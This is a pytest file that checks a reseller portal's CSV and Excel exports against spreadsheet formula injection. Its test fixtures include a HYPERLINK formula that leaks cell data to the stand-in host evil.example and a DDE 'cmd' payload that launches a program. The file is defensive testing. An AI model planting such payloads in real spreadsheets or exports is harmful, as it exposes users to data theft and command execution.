"""Nothing a reseller typed becomes a spreadsheet formula, in any export, CSV or Excel."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.core.exports import safe_csv_value
from portal.models import VocItem, VocKind
from portal.scoring.aggregation import aggregate
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def xlsx_check(body: bytes) -> list[str]:
    """The text cells of the workbook; fails if any cell is stored as a formula."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(io.BytesIO(body)).active
    return [str(c.value) for row in sheet.iter_rows() for c in row if c.data_type == "s" and c.value is not None]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe_in_csv(text):
    assert safe_csv_value(text) == "'" + text


def test_numbers_and_harmless_text_pass_through():
    assert safe_csv_value(-7) == -7 and safe_csv_value(4.2) == 4.2 and safe_csv_value(None) is None
    assert safe_csv_value("Tanaka (=lead)") == "Tanaka (=lead)" and safe_csv_value("") == ""


def test_the_voice_of_customer_export_is_inert(db, browser, tenants):
    for text in HOSTILE:
        db.add(VocItem(check_in_id=tenants.check_in_a.id, account_id=tenants.check_in_a.account_id,
                       partner_id=tenants.check_in_a.partner_id, kind=VocKind.REQUEST, text=text, product_area=text))
    db.commit()
    vendor = browser(tenants.vendor_admin)
    cells = csv_cells(vendor.get("/voice-of-customer.csv").get_data())
    for text in HOSTILE:
        assert "'" + text in cells and text not in cells
    texts = xlsx_check(vendor.get("/voice-of-customer.xlsx").get_data())
    for text in HOSTILE:
        assert text.strip("\t\r") in [t.strip("\t\r") for t in texts]


def test_the_ranking_export_is_inert(db, browser, tenants, today_is):
    today_is(date(2026, 11, 23))
    hostile = factories.partner(db, name=HOSTILE[0], code="EVIL")
    factories.account(db, hostile)
    assert aggregate(db, date(2026, 11, 23)).status == "done"
    vendor = browser(tenants.vendor_admin)
    assert "'" + HOSTILE[0] in csv_cells(vendor.get("/channel/partners.csv").get_data())
    assert HOSTILE[0] in xlsx_check(vendor.get("/channel/partners.xlsx").get_data())


def test_the_check_in_template_is_inert(db, browser, tenants):
    factories.account(db, tenants.partner_a, name=HOSTILE[0], reference="@REF")
    reseller = browser(tenants.admin_a)
    cells = csv_cells(reseller.get("/import/template.csv").get_data())
    assert "'" + HOSTILE[0] in cells and "'@REF" in cells
    texts = xlsx_check(reseller.get("/import/template.xlsx").get_data())
    assert HOSTILE[0] in texts and "@REF" in texts


def test_control_characters_do_not_break_the_excel_export(db, browser, tenants):
    db.add(VocItem(check_in_id=tenants.check_in_a.id, account_id=tenants.check_in_a.account_id,
                   partner_id=tenants.check_in_a.partner_id, kind=VocKind.REQUEST, text="bell\x07 inside"))
    db.commit()
    response = browser(tenants.vendor_admin).get("/voice-of-customer.xlsx")
    assert response.status_code == 200 and "bell inside" in xlsx_check(response.get_data())
